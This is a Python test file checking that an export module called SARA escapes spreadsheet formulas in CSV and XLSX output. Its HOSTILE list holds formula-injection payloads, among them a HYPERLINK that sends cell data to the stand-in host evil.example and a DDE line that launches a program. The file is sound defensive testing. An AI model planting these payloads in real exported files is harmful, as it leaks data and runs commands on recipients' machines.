"""Every CSV and XLSX SARA writes neutralises spreadsheet formulas (OWASP "CSV Injection"):
text beginning with =, +, -, @, tab or carriage return gets a leading apostrophe; numbers
SARA computed are written as numbers."""

from __future__ import annotations

import csv

import openpyxl
import polars as pl
import pytest

from sara.report import export

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("value", HOSTILE)
def test_a_cell_that_would_start_a_formula_is_written_as_text(value):
    assert export.safe_cell(value) == "'" + value


def test_numbers_sara_computed_stay_numbers_and_plain_text_is_untouched():
    assert export.safe_cell(-3) == -3
    assert export.safe_cell(-0.25) == -0.25
    assert export.safe_cell("Anti-social behaviour") == "Anti-social behaviour"
    assert export.safe_cell(None) == ""
    assert export.safe_cell(["a", "=b"]) == '["a", "=b"]'


def test_csv_of_dicts_and_of_a_frame(tmp_path):
    path = tmp_path / "out.csv"
    export.write_csv(path, ["name", "n"], [{"name": v, "n": -i} for i, v in enumerate(HOSTILE)])
    rows = list(csv.DictReader(path.open(newline="")))
    assert [r["name"] for r in rows] == ["'" + v for v in HOSTILE]
    assert [r["n"] for r in rows] == ["0", "-1", "-2", "-3", "-4", "-5"]
    frame = pl.DataFrame({"category": HOSTILE, "change": [-1.5] * len(HOSTILE), "months": [["2025-01", "=x"]] * len(HOSTILE)})
    export.write_frame_csv(frame, path)
    rows = list(csv.DictReader(path.open(newline="")))
    assert all(r["category"].startswith("'") for r in rows)
    assert {r["change"] for r in rows} == {"-1.5"}


def test_xlsx_cells_are_text_never_formulas(tmp_path):
    path = tmp_path / "out.xlsx"
    export.write_xlsx(path, {"rows": (["value", "n"], [[v, -1] for v in HOSTILE])})
    sheet = openpyxl.load_workbook(path).active
    values = [row for row in sheet.iter_rows(min_row=2, values_only=True)]
    assert [v for v, _ in values] == ["'" + v.replace("\r", "\n") for v in HOSTILE]  # XML reads a carriage return as a newline
    assert all(n == -1 for _, n in values)
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)
